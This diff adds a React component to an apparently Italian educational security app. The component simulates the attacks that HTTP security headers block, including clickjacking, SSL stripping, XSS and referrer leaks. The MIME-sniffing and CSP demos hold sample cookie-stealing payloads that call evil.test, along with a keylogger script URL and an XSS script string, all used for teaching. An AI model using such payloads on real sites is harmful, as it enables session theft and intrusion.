@@ -0,0 +1,325 @@
+import { useEffect, useState, type ReactNode } from "react";
+import { Power, RotateCcw } from "lucide-react";
+import { Terminal } from "./Terminal";
+import { Button } from "./ui/button";
+import { Switch } from "./ui/switch";
+import { enforcePolicy, PAGE_ORIGIN, type ResourceVerdict } from "@/lib/cspEnforcement";
+import {
+  featureAllowed,
+  frameAllowed,
+  LEGACY_REFERRER_POLICY,
+  parseReferrerPolicy,
+  refererFor,
+  scriptExecutes,
+  sslStripSteps,
+  xssAuditorVerdict,
+} from "@/lib/headerAttacks";
+import { cn } from "@/lib/utils";
+
+interface HeaderAttackDemoProps {
+  header: string;
+  enabled: boolean;
+  /** Current header value; for the CSP, the policy being edited */
+  value: string;
+  onToggle: () => void;
+}
+
+interface DemoProps {
+  enabled: boolean;
+  value: string;
+}
+
+const ATTACKER_ORIGIN = "https://evil.test";
+
+const Outcome = ({ attacked, children }: { attacked: boolean; children: ReactNode }) => (
+  <p
+    className={cn(
+      "rounded border px-2 py-1 text-xs",
+      attacked ? "border-threat/30 bg-threat/10 text-threat" : "border-success/30 bg-success/10 text-success"
+    )}
+  >
+    {attacked ? "⚠ " : "✓ "}
+    {children}
+  </p>
+);
+
+const ClickjackingDemo = ({ enabled, value }: DemoProps) => {
+  const [revealed, setRevealed] = useState(false);
+  const [clicked, setClicked] = useState(false);
+  const framed = frameAllowed(enabled ? value : null, ATTACKER_ORIGIN, PAGE_ORIGIN);
+
+  useEffect(() => setClicked(false), [framed]);
+
+  return (
+    <div className="space-y-2">
+      <p className="text-xs text-muted-foreground">
+        {ATTACKER_ORIGIN} carica il tuo sito in un iframe invisibile, allineato sopra un finto premio.
+      </p>
+      <div className="relative h-28 overflow-hidden rounded-lg border border-border/50 bg-warning/10">
+        {/* The decoy the victim thinks they are clicking */}
+        <div className="absolute inset-0 flex flex-col items-center justify-center gap-2">
+          <span className="text-sm font-semibold text-warning">🎁 Hai vinto un buono da 500€!</span>
+          <span className="rounded bg-warning px-4 py-1.5 text-xs font-semibold text-background">Ritira il premio</span>
+        </div>
+        {/* The framed page, on top: it receives the click */}
+        <div
+          className={cn("absolute inset-0 transition-opacity", revealed ? "opacity-70" : "opacity-0")}
+          data-testid="clickjacking-frame"
+        >
+          {framed ? (
+            <div className="flex h-full flex-col items-center justify-center gap-2 bg-background">
+              <span className="text-xs text-muted-foreground">app.secureshield.test/settings</span>
+              <button
+                type="button"
+                onClick={() => setClicked(true)}
+                className="mt-[1.6rem] rounded bg-threat px-4 py-1.5 text-xs font-semibold text-white"
+              >
+                Elimina account
+              </button>
+            </div>
+          ) : (
+            <button
+              type="button"
+              onClick={() => setClicked(true)}
+              className="flex h-full w-full items-center justify-center bg-muted text-xs text-muted-foreground"
+            >
+              app.secureshield.test ha rifiutato la connessione
+            </button>
+          )}
+        </div>
+      </div>
+      <label className="flex items-center gap-2 text-xs text-muted-foreground">
+        <Switch checked={revealed} onCheckedChange={setRevealed} aria-label="Mostra l'iframe nascosto" />
+        Mostra l'iframe nascosto
+      </label>
+      {clicked ? (
+        <Outcome attacked={framed}>
+          {framed
+            ? "Il click ha premuto \"Elimina account\" nel frame: la vittima era loggata, l'account è perso."
+            : "Il click colpisce un frame vuoto: il browser non ha caricato la pagina nell'iframe."}
+        </Outcome>
+      ) : (
+        <p className="text-xs text-muted-foreground">Clicca "Ritira il premio" come farebbe la vittima.</p>
+      )}
+    </div>
+  );
+};
+
+const MimeSniffingDemo = ({ enabled }: DemoProps) => {
+  const { executes, message } = scriptExecutes("text/plain", enabled);
+  return (
+    <div className="space-y-2">
+      <p className="text-xs text-muted-foreground">
+        Un utente carica <code className="font-mono">bio.txt</code> contenente JavaScript. Un XSS inserisce poi{" "}
+        <code className="font-mono">{'<script src="/uploads/bio.txt">'}</code>: il browser lo eseguirà?
+      </p>
+      <pre className="rounded-lg border border-border/50 bg-muted/20 p-2 font-mono text-xs text-muted-foreground">
+        {`HTTP/1.1 200 OK\nContent-Type: text/plain${enabled ? "\nX-Content-Type-Options: nosniff" : ""}\n\nfetch("//evil.test/?c=" + document.cookie)`}
+      </pre>
+      <Outcome attacked={executes}>{message}</Outcome>
+    </div>
+  );
+};
+
+const SslStripDemo = ({ enabled }: DemoProps) => {
+  const [run, setRun] = useState(0);
+  return (
+    <div className="space-y-2">
+      <p className="text-xs text-muted-foreground">
+        Wi-Fi pubblica con un proxy malevolo. L'utente digita l'indirizzo senza https://, come quasi sempre.
+      </p>
+      <Terminal
+        key={`${enabled}-${run}`}
+        lines={sslStripSteps("bank.secureshield.test", enabled).map((step) => ({
+          type: step.secure ? "success" : step.actor === "attacker" ? "error" : "warning",
+          content: `[${step.actor}] ${step.secure ? "🔒" : "🔓"} ${step.text}`,
+          delay: 700,
+        }))}
+        title="ssl-strip"
+      />
+      <Button type="button" variant="ghost" size="sm" onClick={() => setRun((r) => r + 1)}>
+        <RotateCcw className="mr-2 h-4 w-4" />
+        Ripeti
+      </Button>
+      <Outcome attacked={!enabled}>
+        {enabled
+          ? "HSTS: il browser non tenta mai HTTP, non c'è nulla da declassare."
+          : "Senza HSTS la prima richiesta in chiaro basta all'attaccante per restare in mezzo."}
+      </Outcome>
+    </div>
+  );
+};
+
+const ReferrerLeakDemo = ({ enabled, value }: DemoProps) => {
+  const policy = enabled ? parseReferrerPolicy(value) : LEGACY_REFERRER_POLICY;
+  const from = `${PAGE_ORIGIN}/reset-password?token=7f3a9c2e`;
+  const referer = refererFor(policy, from, "https://cdn.analytics-partner.test/pixel.gif");
+  const leaked = referer?.includes("token=") ?? false;
+  return (
+    <div className="space-y-2">
+      <p className="text-xs text-muted-foreground">
+        La pagina di reset password ha il token nell'URL e carica un pixel di analytics di terze parti.
+      </p>
+      <code className="block break-all rounded-lg border border-border/50 bg-muted/20 p-2 font-mono text-xs text-muted-foreground">
+        GET https://cdn.analytics-partner.test/pixel.gif
+        <br />
+        Referer:{" "}
+        <span className={leaked ? "text-threat" : "text-success"}>{referer ?? "(non inviato)"}</span>
+      </code>
+      <p className="text-xs text-muted-foreground">
+        Policy applicata: <span className="font-mono">{policy}</span>
+        {!enabled && " (default dei browser prima del 2020, o imposta da un <meta name=\"referrer\">)"}
+      </p>
+      <Outcome attacked={leaked}>
+        {leaked
+          ? "Il token di reset finisce nei log di una terza parte: chi li legge può cambiare la password."
+          : "Alla terza parte arriva al massimo l'origine, senza percorso né query string."}
+      </Outcome>
+    </div>
+  );
+};
+
+const XSS_URL = `${PAGE_ORIGIN}/search?q=${encodeURIComponent("<script>steal()</script>")}`;
+
+const XssAuditorDemo = ({ enabled, value }: DemoProps) => {
+  const verdict = xssAuditorVerdict(enabled ? value : null, XSS_URL, "<h1>Risultati per <script>steal()</script></h1>");
+  const legacy = {
+    blocked: "Pagina bloccata: lo script riflesso è stato riconosciuto",
+    filtered: "Lo script riflesso viene rimosso, il resto della pagina resta (e il filtro stesso è sfruttabile)",
+    executed: "Nessun filtro: lo script riflesso viene eseguito",
+  }[verdict];
+  return (
+    <div className="space-y-2">
+      <p className="text-xs text-muted-foreground">
+        XSS riflesso: <code className="break-all font-mono">{decodeURIComponent(XSS_URL)}</code>
+      </p>
+      <div className="grid gap-2 text-xs sm:grid-cols-2">
+        <div className="space-y-1">
+          <span className="font-semibold text-foreground">Browser legacy (Chrome &lt; 78, IE)</span>
+          <Outcome attacked={verdict !== "blocked"}>{legacy}</Outcome>
+        </div>
+        <div className="space-y-1">
+          <span className="font-semibold text-foreground">Browser moderno</span>
+          <Outcome attacked>Il filtro XSS non esiste più: l'header è ignorato e lo script viene eseguito</Outcome>
+        </div>
+      </div>
+      <p className="text-xs text-muted-foreground">
+        Oggi si consiglia <code className="font-mono">X-XSS-Protection: 0</code> e una CSP: è lei a fermare questo attacco.
+      </p>
+    </div>
+  );
+};
+
+const PERMISSION_FEATURES = [
+  { id: "geolocation", label: "Posizione" },
+  { id: "camera", label: "Fotocamera" },
+  { id: "microphone", label: "Microfono" },
+];
+
+const PermissionsDemo = ({ enabled, value }: DemoProps) => {
+  const contexts = [
+    { label: "Script iniettato nella pagina", origin: PAGE_ORIGIN, iframeAllow: false },
+    { label: 'iframe ads.example con allow="geolocation; camera; microphone"', origin: "https://ads.example", iframeAllow: true },
+  ];
+  const policy = enabled ? value : null;
+  const anyAllowed = contexts.some((c) =>
+    PERMISSION_FEATURES.some((f) => featureAllowed(policy, f.id, c.origin, PAGE_ORIGIN, c.iframeAllow))
+  );
+  return (
+    <div className="space-y-2">
+      <p className="text-xs text-muted-foreground">
+        Chi può chiedere all'utente posizione, fotocamera e microfono a nome del tuo sito?
+      </p>
+      <table className="w-full text-xs">
+        <tbody>
+          {contexts.map((c) => (
+            <tr key={c.origin} className="border-b border-border/30 last:border-0">
+              <td className="p-1.5 text-muted-foreground">{c.label}</td>
+              {PERMISSION_FEATURES.map((f) => {
+                const allowed = featureAllowed(policy, f.id, c.origin, PAGE_ORIGIN, c.iframeAllow);
+                return (
+                  <td key={f.id} className={cn("p-1.5 text-center", allowed ? "text-threat" : "text-success")}>
+                    {f.label}: {allowed ? "richiesta mostrata" : "negata"}
+                  </td>
+                );
+              })}
+            </tr>
+          ))}
+        </tbody>
+      </table>
+      <Outcome attacked={anyAllowed}>
+        {anyAllowed
+          ? "Il prompt mostra il TUO dominio: l'utente si fida e concede l'accesso a codice di terzi."
+          : "La policy disattiva le API prima del prompt: nessuno script può nemmeno chiederle."}
+      </Outcome>
+    </div>
+  );
+};
+
+const CspDemo = ({ enabled, value }: DemoProps) => {
+  const [verdicts, setVerdicts] = useState<ResourceVerdict[]>([]);
+
+  useEffect(() => {
+    let cancelled = false;
+    enforcePolicy(enabled ? value : "", [
+      { id: "commento", kind: "inline-script", value: "fetch('https://evil.test/?c=' + document.cookie)" },
+      { id: "payload", kind: "external-script", value: "https://evil.test/keylogger.js" },
+    ]).then((result) => {
+      if (!cancelled) setVerdicts(result);
+    });
+    return () => {
+      cancelled = true;
+    };
+  }, [enabled, value]);
+
+  return (
+    <div className="space-y-2">
+      <p className="text-xs text-muted-foreground">
+        Un commento salvato contiene uno script inline e carica un keylogger da evil.test.
+      </p>
+      {verdicts.map((v) => (
+        <Outcome key={v.resource.id} attacked={v.allowed}>
+          <span className="font-mono">{v.resource.value}</span> — {v.allowed ? "eseguito" : `bloccato da ${v.directive}`}
+        </Outcome>
+      ))}
+    </div>
+  );
+};
+
+const DEMOS: Record<string, { title: string; Demo: (props: DemoProps) => JSX.Element }> = {
+  "Content-Security-Policy": { title: "XSS persistente", Demo: CspDemo },
+  "X-Frame-Options": { title: "Clickjacking", Demo: ClickjackingDemo },
+  "X-Content-Type-Options": { title: "MIME sniffing", Demo: MimeSniffingDemo },
+  "Strict-Transport-Security": { title: "SSL stripping", Demo: SslStripDemo },
+  "X-XSS-Protection": { title: "XSS riflesso e filtro legacy", Demo: XssAuditorDemo },
+  "Referrer-Policy": { title: "Token nel Referer", Demo: ReferrerLeakDemo },
+  "Permissions-Policy": { title: "Abuso di API sensibili", Demo: PermissionsDemo },
+};
+
+/**
+ * HeaderAttackDemo - The attack a header stops, run with and without it
+ *
+ * EDUCATIONAL NOTE:
+ * A risk sentence is easy to ignore; a deleted account is not. Each demo
+ * computes its outcome from the header value, so switching the header
+ * back on (or weakening its value) changes the result right away.
+ */
+export const HeaderAttackDemo = ({ header, enabled, value, onToggle }: HeaderAttackDemoProps) => {
+  const demo = DEMOS[header];
+  if (!demo) return null;
+  const { title, Demo } = demo;
+
+  return (
+    <div className="space-y-3 rounded-lg border border-border/50 bg-muted/10 p-3">
+      <div className="flex flex-wrap items-center gap-2">
+        <span className="text-sm font-semibold text-foreground">Demo: {title}</span>
+        <span className="font-mono text-xs text-muted-foreground">{header}</span>
+        <Button type="button" variant="outline" size="sm" className="ml-auto" onClick={onToggle}>
+          <Power className="mr-2 h-4 w-4" />
+          {enabled ? "Disattiva header" : "Riattiva header"}
+        </Button>
+      </div>
+      <Demo enabled={enabled} value={value} />
+    </div>
+  );
+};